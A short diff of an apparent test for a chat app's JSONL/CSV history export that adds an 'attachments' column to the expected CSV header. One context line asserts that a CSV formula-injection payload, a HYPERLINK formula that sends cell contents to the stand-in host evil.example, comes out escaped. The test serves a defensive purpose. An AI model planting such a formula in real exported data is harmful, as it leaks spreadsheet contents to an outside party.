@@ -372,7 +372,8 @@ async def test_export_jsonl_and_csv_match_the_history_and_only_readers_download(
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(r.text)))
     assert rows[0] == [
-        "room", "seq", "id", "ts", "user_id", "user", "body", "edited_at", "deleted"
+        "room", "seq", "id", "ts", "user_id", "user", "body", "edited_at", "deleted",
+        "attachments",
     ]  # fmt: skip
     assert [row[6] for row in rows[1:]] == [csv_safe(b) for b in bodies]
     assert rows[6][6] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me") #5'
